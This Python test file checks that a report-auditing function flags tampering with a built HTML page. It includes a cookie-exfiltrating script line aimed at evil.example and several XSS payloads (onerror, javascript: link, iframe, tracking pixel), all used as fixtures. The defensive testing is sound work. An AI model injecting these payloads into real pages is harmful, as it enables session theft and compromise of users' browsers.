"""A submitted report is untrusted again (reliability.md P2-16).

A student can edit ``report.html`` after the build. The tutor's check compares the page
with the hash in the build's ``manifest.json`` (or a rebuild's) and scans it for active
content beyond the template's own.
"""

from __future__ import annotations

import json

import pytest

from carebook.build.export import baseline
from carebook.build.sanitize import audit_submission

pytestmark = pytest.mark.slow

EXFILTRATE = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


@pytest.fixture(scope="module")
def submitted(sample_report):
    page = (sample_report / "report.html").read_bytes()
    manifest = json.loads((sample_report / "manifest.json").read_text(encoding="utf-8"))
    recorded = manifest["outputs"]["report.html"]
    digest = recorded["sha256"] if isinstance(recorded, dict) else recorded
    return page, digest


def test_the_page_as_built_passes(submitted):
    page, digest = submitted
    assert audit_submission(page, baseline(), expected_sha256=digest) == []


def test_an_added_script_is_flagged_twice(submitted):
    page, digest = submitted
    edited = page.replace(b"</body>", EXFILTRATE.encode() + b"</body>", 1)
    assert edited != page
    findings = audit_submission(edited, baseline(), expected_sha256=digest)
    assert any("differs from the one the build produced" in f for f in findings)
    assert any("1 <script>/<style> element(s) the template does not make" in f for f in findings)
    # Even without the hash (a tutor who only has the file), the script is caught.
    assert audit_submission(edited, baseline()) != []


@pytest.mark.parametrize(
    "edit",
    [
        b'<img src="x" onerror="alert(1)">',
        b'<a href="javascript:alert(2)">grade me</a>',
        b'<iframe src="https://evil.example/"></iframe>',
        b'<img src="https://evil.example/pixel.png">',
    ],
)
def test_other_active_edits_are_flagged_without_the_hash(submitted, edit):
    page, _ = submitted
    edited = page.replace(b"</body>", edit + b"</body>", 1)
    assert audit_submission(edited, baseline()) != []


def test_a_silent_text_edit_is_caught_only_by_the_hash(submitted):
    page, digest = submitted
    edited = page.replace(b"China Mobile", b"China Mobil", 1)
    assert audit_submission(edited, baseline()) == []
    assert len(audit_submission(edited, baseline(), expected_sha256=digest)) == 1
